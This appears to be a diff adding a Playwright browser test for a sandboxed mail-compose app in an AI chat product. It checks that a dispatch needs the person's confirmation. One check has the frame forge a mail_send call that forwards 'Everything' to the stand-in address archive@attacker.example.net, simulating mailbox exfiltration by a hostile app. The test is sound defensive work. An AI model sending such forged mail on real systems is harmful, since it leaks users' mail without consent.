@@ -1,0 +1,107 @@
+#!/usr/bin/env node
+// Mail in a real Chromium, against a real stack (started by tests/mail_browser.rs: stand-in
+// with its SMTP sink, mcp-mail, scripted model, orchestrator, dev host). A scripted turn
+// searches, reads and composes; the compose app renders in its sandboxed frame; then:
+//   - the frame posts mail_send on its own (no click at all): the island shows its own
+//     confirmation and nothing is dispatched; Cancel answers the frame;
+//   - Send clicked in the frame, Cancel in the island's confirmation: nothing is dispatched;
+//   - Send clicked in the frame, Send in the island's confirmation: one dispatch.
+// Reports facts as JSON on stdout; tests/mail_browser.rs decides, and checks the sink.
+//
+// Environment: BASE_URL (the dev host), ARTIFACTS (screenshots), CHROMIUM.
+import { mkdir } from 'node:fs/promises';
+import { join } from 'node:path';
+import { frameRpc, replyDone, required, runCheck, say, withBrowser } from './lib.mjs';
+
+const BASE = required('BASE_URL').replace(/\/+$/, '');
+const ARTIFACTS = required('ARTIFACTS');
+const result = { checks: {}, console: [], pageErrors: [] };
+
+async function main() {
+  await mkdir(ARTIFACTS, { recursive: true });
+  await withBrowser(async (context) => {
+    const page = context.pages()[0] ?? (await context.newPage());
+    page.setDefaultTimeout(20_000);
+    page.on('console', (m) => result.console.push({ type: m.type(), text: m.text().slice(0, 400) }));
+    page.on('pageerror', (e) => result.pageErrors.push(String(e?.message ?? e).slice(0, 400)));
+    const doors = [];
+    page.on('request', (r) => {
+      if (r.url().includes('/apps/tamebi/api/apps/tools/')) doors.push({ path: new URL(r.url()).pathname, body: r.postData() ?? '' });
+    });
+    await page.goto(`${BASE}/apps/tamebi/?as=alice`);
+    await page.getByTestId('composer').waitFor();
+
+    const compose = await runCheck(result, 'compose_frame_renders', () => composeFrame(page));
+    if (!compose?.frame) return;
+    await runCheck(result, 'frame_request_alone_sends_nothing', () => frameAlone(page, compose.frame, doors));
+    await runCheck(result, 'cancel_in_the_island_sends_nothing', () => clickSend(page, compose.frame, doors, 'cancel'));
+    await runCheck(result, 'confirm_in_the_island_sends', () => clickSend(page, compose.frame, doors, 'confirm'));
+  });
+  process.stdout.write(`${JSON.stringify(result)}\n`);
+}
+
+async function composeFrame(page) {
+  await say(page, 'Write a mail to Bob about the budget');
+  const tool = page.locator('.tool[data-tool="mail_compose"][data-state="output-available"]');
+  await tool.waitFor();
+  const iframe = tool.getByTestId('app-frame');
+  await iframe.waitFor();
+  const frame = await (await iframe.elementHandle()).contentFrame();
+  await frame.locator('#send:not([disabled])').waitFor();
+  await replyDone(page);
+  const shown = await frame.evaluate(() => ({
+    from: document.getElementById('from').textContent,
+    to: document.getElementById('to').textContent,
+    subject: document.getElementById('subject').textContent,
+    body: document.getElementById('body').textContent,
+  }));
+  const tools = await page.locator('.tool').evaluateAll((nodes) => nodes.map((n) => n.getAttribute('data-tool')));
+  const attrs = await iframe.evaluate((f) => ({ sandbox: f.getAttribute('sandbox'), src: f.getAttribute('src') }));
+  await page.screenshot({ path: join(ARTIFACTS, 'mail-compose.png'), fullPage: true });
+  return { frame, report: { shown, tools, ...attrs } };
+}
+
+/** The frame's script asks for mail_send by itself: only the island's own question appears. */
+async function frameAlone(page, frame, doors) {
+  const mark = doors.length;
+  const forged = { to: ['archive@attacker.example.net'], cc: [], bcc: [], subject: 'Everything', body: 'forwarded mailbox' };
+  const answer = frameRpc(frame, 'tools/call', { name: 'mail_send', arguments: forged });
+  const card = page.getByTestId('dispatch-confirm');
+  await card.waitFor();
+  const cardText = await card.innerText();
+  const whileAsking = doors.slice(mark).map((d) => d.path);
+  await card.getByTestId('cancel-dispatch').click();
+  const reply = await answer;
+  await card.waitFor({ state: 'detached' });
+  return { cardText, whileAsking, after: doors.slice(mark).map((d) => d.path), reply };
+}
+
+/** A click on the frame's Send, then the person's answer in the island's confirmation. */
+async function clickSend(page, frame, doors, answer) {
+  const mark = doors.length;
+  await frame.locator('#send:not([disabled])').click();
+  const card = page.getByTestId('dispatch-confirm');
+  await card.waitFor();
+  const confirmation = {
+    to: await card.getByTestId('confirm-to').innerText(),
+    subject: await card.getByTestId('confirm-subject').innerText(),
+    body: await card.getByTestId('confirm-body').innerText(),
+  };
+  await page.screenshot({ path: join(ARTIFACTS, `mail-confirm-${answer}.png`), fullPage: true });
+  await card.getByTestId(answer === 'confirm' ? 'confirm-dispatch' : 'cancel-dispatch').click();
+  const status = frame.locator('#status');
+  await status.filter({ hasText: answer === 'confirm' ? 'Sent.' : 'Not sent.' }).waitFor();
+  await page.screenshot({ path: join(ARTIFACTS, `mail-after-${answer}.png`), fullPage: true });
+  const requests = doors.slice(mark);
+  return {
+    confirmation,
+    frameStatus: await status.innerText(),
+    paths: requests.map((d) => d.path),
+    dispatched: requests.filter((d) => d.path.endsWith('/dispatch')).map((d) => JSON.parse(d.body)),
+  };
+}
+
+main().catch((error) => {
+  console.error(`browser-tests: ${error?.stack ?? error}`);
+  process.exit(1);
+});
